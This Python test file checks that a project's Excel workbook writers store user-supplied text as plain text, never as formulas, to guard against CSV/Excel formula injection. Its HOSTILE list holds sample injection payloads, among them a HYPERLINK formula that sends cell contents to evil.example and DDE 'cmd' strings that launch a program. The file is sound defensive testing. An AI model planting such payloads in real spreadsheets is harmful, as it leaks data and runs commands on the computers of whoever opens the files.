"""Workbooks write user text as text, never as a formula (CSV/Excel injection)."""

from __future__ import annotations

import io
import sys
import zipfile
from pathlib import Path

import pytest

from yuntan.formats.excel.cells import FORMULA_STARTS
from yuntan.formats.factor_csv import FactorVersionRow, read_factor_files
from yuntan.formats.factor_excel import read_factor_workbook, write_factor_workbook
from yuntan.formats.reports.excel import write_excel

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "formats" / "reports"))
from report_fixtures import aluminium_outcome, report_for

SHIPPED = Path(__file__).resolve().parents[2] / "yuntan" / "data" / "factors"
HOSTILE = ["=HYPERLINK(\"http://evil.example/\"&A1,\"click\")", "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _sheets(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return "".join(archive.read(n).decode() for n in archive.namelist()
                       if n.startswith("xl/worksheets/"))


def _assert_text_only(data: bytes) -> None:
    xml = _sheets(data)
    assert "<f>" not in xml and "<f " not in xml, "a cell was written as a formula"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert 'quotePrefix="1"' in archive.read("xl/styles.xml").decode()


def test_every_formula_start_is_covered() -> None:
    assert {text[0] for text in HOSTILE} == set(FORMULA_STARTS)


@pytest.mark.parametrize("text", HOSTILE)
def test_the_factor_workbook_writes_names_as_text_and_reads_them_back(
        tmp_path: Path, text: str) -> None:
    row = read_factor_files(SHIPPED / "datasets.csv", SHIPPED / "values.csv")[0]
    hostile = FactorVersionRow({**row.fields, "name_en": text, "source_note": text},
                               row.values)
    path = tmp_path / "factors.xlsx"
    write_factor_workbook([hostile], path)
    _assert_text_only(path.read_bytes())
    assert read_factor_workbook(path)[0].fields["name_en"] == text.strip()


@pytest.mark.parametrize("text", HOSTILE)
def test_the_report_workbook_writes_user_text_as_text(text: str) -> None:
    data = report_for(aluminium_outcome(), product_name_en=text, organisation_name_zh=text,
                      study_name_en=text)
    buffer = io.BytesIO()
    write_excel(data, buffer)
    _assert_text_only(buffer.getvalue())
